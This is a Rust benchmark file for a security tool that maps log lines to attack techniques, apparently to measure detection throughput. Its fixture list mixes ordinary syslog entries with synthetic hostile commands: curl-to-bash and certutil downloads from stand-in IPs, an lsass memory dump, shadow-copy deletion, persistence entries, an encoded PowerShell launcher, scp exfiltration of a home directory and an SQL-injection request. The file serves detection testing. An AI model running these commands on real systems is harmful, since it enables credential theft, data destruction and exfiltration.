//! Technique mapping throughput (issue 3 figure: 5,000 events/s on one core for single log lines).
//! Run: `cargo bench --bench mapper`. The lines are synthetic, written here: a mix of attack
//! command lines and ordinary log lines, as a mapper sees them in a stream of events.

use cacao_forge::attack::indicators::indicators;
use cacao_forge::attack::mapper::model::LinearModel;
use cacao_forge::attack::mapper::{Mapper, Scratch};
use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

const LINES: &[&str] = &[
    r#"C:\Windows\system32\cmd.exe /c "whoami /all > C:\Users\Public\w.txt""#,
    r#"powershell.exe -NoP -sta -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"#,
    "Nov 21 10:04:11 web01 sshd[2231]: Failed password for invalid user oracle from 203.0.113.9 port 50122 ssh2",
    r#"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full"#,
    "curl -fsSL http://198.51.100.7/x.sh | bash",
    r#"schtasks /create /sc minute /mo 5 /tn "Updater" /tr "C:\ProgramData\u.exe" /f"#,
    "Nov 21 10:05:40 web01 CRON[3111]: (root) CMD (run-parts /etc/cron.hourly)",
    r#"vssadmin.exe delete shadows /all /quiet"#,
    "192.0.2.44 - - [21/Nov/2026:10:06:01 +0000] \"GET /index.php?id=1%27%20OR%201=1-- HTTP/1.1\" 200 512",
    "nltest /domain_trusts /all_trusts",
    r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d C:\Users\a\upd.exe /f"#,
    "tar czf /tmp/.d/home.tgz /home/alice && scp /tmp/.d/home.tgz backup@203.0.113.50:/srv",
    "Nov 21 10:07:02 db02 systemd[1]: Started Session 42 of user postgres.",
    "net group \"Domain Admins\" /domain",
    "find / -perm -4000 -type f 2>/dev/null",
    "certutil -urlcache -split -f http://203.0.113.4/p.exe C:\\Users\\Public\\p.exe",
];

fn mapping(c: &mut Criterion) {
    let mapper = Mapper::embedded();
    let mut scratch = Scratch::default();
    // Warm the lazily built rules and model outside the measurement.
    mapper.top_parents("warm up", &mut scratch);
    let mut g = c.benchmark_group("mapper");
    g.throughput(Throughput::Elements(LINES.len() as u64));
    g.bench_function("rank_parents_per_line", |b| {
        b.iter(|| {
            for line in LINES {
                black_box(mapper.rank_parents(black_box(line), 5, &mut scratch));
            }
        })
    });
    g.bench_function("map_text_with_evidence", |b| {
        b.iter(|| {
            for line in LINES {
                black_box(mapper.map_text(black_box(line)));
            }
        })
    });
    let rules = indicators();
    g.bench_function("rules_only", |b| {
        b.iter(|| {
            for line in LINES {
                black_box(rules.rank(black_box(line)));
            }
        })
    });
    let model = LinearModel::embedded();
    let (mut features, mut probs, mut buckets) = (Default::default(), Vec::new(), Vec::new());
    g.bench_function("model_only", |b| {
        b.iter(|| {
            for line in LINES {
                model.features().extract_into(black_box(line), &mut features);
                model.probabilities_into(&features, &mut probs, &mut buckets);
                black_box(&probs);
            }
        })
    });
    g.finish();

    let mut g = c.benchmark_group("mapper_load");
    g.sample_size(10);
    g.bench_function("decode_embedded_model", |b| {
        b.iter(|| {
            LinearModel::from_parts(
                include_str!("../models/mapper.json"),
                include_bytes!("../models/mapper.bin"),
                "models/mapper",
            )
            .expect("embedded model decodes")
        })
    });
    g.finish();
}

criterion_group!(benches, mapping);
criterion_main!(benches);
